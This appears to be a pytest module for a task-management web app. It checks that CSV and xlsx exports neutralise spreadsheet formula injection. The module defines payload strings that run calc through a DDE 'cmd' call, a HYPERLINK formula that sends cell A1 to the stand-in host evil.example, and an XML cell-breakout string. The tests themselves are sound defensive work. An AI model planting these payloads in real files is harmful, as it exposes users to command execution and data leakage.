"""User text that a spreadsheet would run as a formula is written as text in every export
(issue 10, finding 4): the CSV export of the model screens (a leading apostrophe, OWASP), the
inspection conclusion workbook, the period report workbook and the import template (string
cells, read back with openpyxl: data type 's' and the text unchanged)."""

from __future__ import annotations

import csv
import io

import openpyxl
import sqlalchemy as sa

from cddh.models import InspectionTeam, Role, Task, TaskState, Unit, UnitCategory, User, db
from cddh.services import inspection as inspection_service
from cddh.services.cells import csv_text
from cddh.services.settings import set_setting

from .conftest import make_task, make_unit, make_user
from .test_api_reports import dataset  # noqa: F401 - the hand-built dataset of the reports
from .test_inspection import build_world
from .test_reports import _report, _users

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
            "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0"]


def text_cells(data: bytes) -> dict[str, str]:
    """Every cell of a workbook holding one of the payloads: value -> data type."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(p in cell.value for p in PAYLOADS):
                    found[cell.value] = cell.data_type
                if cell.data_type == "f":
                    found[str(cell.value)] = "f"
    return found


def assert_all_text(found: dict[str, str], expected: list[str]) -> None:
    formulas = [v for v, kind in found.items() if kind != "s"]
    assert not formulas, f"written as formulas: {formulas}"
    for payload in expected:
        assert any(payload in value for value in found), f"missing: {payload}"


def test_csv_text_escapes_every_formula_start():
    for payload in PAYLOADS + ["\tx", "\rx"]:
        assert csv_text(payload) == "'" + payload
    assert csv_text("Báo cáo") == "Báo cáo" and csv_text(None) == ""


def test_the_task_csv_export_writes_formulas_as_text(app, browser):
    with app.app_context():
        vp = make_unit("VP", UnitCategory.office)
        snv = make_unit("SNV", name=PAYLOADS[1])
        admin = make_user(Role.admin, vp)
        for payload in PAYLOADS:
            make_task(snv, state=TaskState.in_progress, content=payload)
        db.session.commit()
        admin.id  # noqa: B018  (loads the row before the context ends)
    resp = browser(admin).get("/tasks/export/csv/")
    assert resp.status_code == 200, resp.status_code
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
    cells = [c for row in rows[1:] for c in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    units = browser(admin).get("/units/export/csv/").get_data(as_text=True)
    assert "'" + PAYLOADS[1] in [c for row in csv.reader(io.StringIO(units)) for c in row]


def test_the_conclusion_workbook_writes_formulas_as_text(app, browser):
    world = build_world(app)
    with app.test_request_context():
        lead = db.session.get(User, world.users["lead"].id)
        team = db.session.get(InspectionTeam, world["team_T"])
        inspection_service.record_conclusion(lead, team, inspected_unit_id=world["inspected_T"],
                                             conclusion=PAYLOADS[0])
        team.ground = PAYLOADS[1]
        team.decision_number = PAYLOADS[2]
        db.session.commit()
    resp = browser(world.users["member"]).get(
        f"/inspection_teams/conclusion.xlsx?id={world['team_T']}")
    assert resp.status_code == 200
    assert_all_text(text_cells(resp.data), PAYLOADS[:3])


def test_the_period_report_workbook_writes_formulas_as_text(app, dataset, browser):  # noqa: F811
    spec, _leader = _users(app)
    with app.app_context():
        db.session.execute(sa.update(Task).values(content=PAYLOADS[1]))
        db.session.execute(sa.update(Unit).where(Unit.code != "VP").values(name=PAYLOADS[4]))
        set_setting("report_agency", PAYLOADS[0])
        db.session.commit()
    resp = _issued_export(app, browser, spec)
    assert_all_text(text_cells(resp.data), [PAYLOADS[0], PAYLOADS[1], PAYLOADS[4]])


def _issued_export(app, browser, spec):
    """The workbook of a period report the specialist issues."""
    report_id = _report(app)
    me = browser(spec)
    assert me.post("/period_reports/issue/", data={"id": report_id}).status_code == 302
    resp = me.get(f"/period_reports/export/?id={report_id}")
    assert resp.status_code == 200
    return resp


def test_the_import_template_writes_unit_names_as_text(app, browser):
    with app.app_context():
        vp = make_unit("VP", UnitCategory.office)
        make_unit("SNV", name=PAYLOADS[3])
        make_unit("STC", name=PAYLOADS[0])
        spec = make_user(Role.office_specialist, vp)
        db.session.commit()
        spec.id  # noqa: B018  (loads the row before the context ends)
    resp = browser(spec).get("/documents/import/template.xlsx")
    assert resp.status_code == 200
    assert_all_text(text_cells(resp.data), [PAYLOADS[3], PAYLOADS[0]])


# xlsxwriter's write_string copies a text that starts with <r> and ends with </r> into the
# sheet's XML unescaped: this one closes its cell and adds a formula cell.
XML_TEXT = ('<r><t>a</t></r></is></c><c r="Z9"><f>HYPERLINK("http://evil.example","b")</f>'
            '<v>b</v></c><c r="Z10" t="inlineStr"><is><r><t>c</t></r>')


def test_the_period_report_workbook_keeps_xml_shaped_text_as_text(app, dataset, browser):  # noqa: F811
    spec, _leader = _users(app)
    with app.app_context():
        db.session.execute(sa.update(Task).values(content=XML_TEXT))
        set_setting("report_agency", XML_TEXT)
        db.session.commit()
    resp = _issued_export(app, browser, spec)
    book = openpyxl.load_workbook(io.BytesIO(resp.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if c.value == XML_TEXT]
    assert len(texts) >= 2 and all(c.data_type == "s" for c in texts)  # agency and a task
